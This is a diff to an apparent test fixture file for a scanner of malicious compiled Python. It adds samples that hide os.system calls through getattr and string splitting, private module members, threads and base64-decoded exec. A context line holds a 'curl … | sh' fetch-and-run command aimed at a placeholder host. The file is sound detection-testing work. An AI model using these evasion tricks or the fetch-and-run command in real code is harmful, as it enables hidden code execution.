@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import importlib.util
+import marshal  # dumps only
 import struct
 import zlib
 from typing import Any
@@ -135,6 +137,12 @@ def pyc(top: dict[str, bytes], *, magic: int = 3495, tail: bytes = b"") -> bytes
     return struct.pack("<H", magic) + b"\r\n" + bytes(12) + top["raw"] + tail
 
 
+def compiled(source: str) -> bytes:
+    """Return what this Python compiles a source to, as it stands in `__pycache__`."""
+    content = marshal.dumps(compile(source, "m.py", "exec", dont_inherit=True))
+    return importlib.util.MAGIC_NUMBER + bytes(12) + content
+
+
 _FUNCTION = code(("os", "system"), ("echo stannary",), "load")
 _register(
     "Compiled Python",
@@ -149,6 +157,14 @@ _register(
         "pyc.import_by_name": (pyc(code(("__import__", "getattr"), ("o", "s", None))), True),
         "pyc.connect": (pyc(code(("socket", "connect"), ("127.0.0.1", None))), True),
         "pyc.exec": (pyc(code(("base64", "b64decode", "exec"), ("cHJpbnQoMSk=", None))), True),
+        "pyc.compiled_plain": (compiled("import os\ndef f(x):\n    x.system = os.getcwd()\n    return x.run(os.path)\n"), False),
+        "pyc.compiled_hidden": (compiled("getattr(__import__('o' + 's'), 'sys' + 'tem')('echo stannary')\n"), True),
+        "pyc.compiled_member": (compiled("import random\ndef f():\n    return random._os.system('echo stannary')\n"), True),
+        "pyc.compiled_thread": (
+            compiled("import os, threading\nthreading.Thread(target=os.system, args=('echo stannary',)).start()\n"),
+            True,
+        ),
+        "pyc.compiled_decoded": (compiled("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"), True),
         "pyc.shell_text": (pyc(code(("x",), ("curl https://example.invalid/x | sh", None))), True),
         "pyc.trailing": (pyc(code(("math",)), tail=PICKLE), True),
         "pyc.future_magic": (pyc(code(("os", "system")), magic=3627), True),
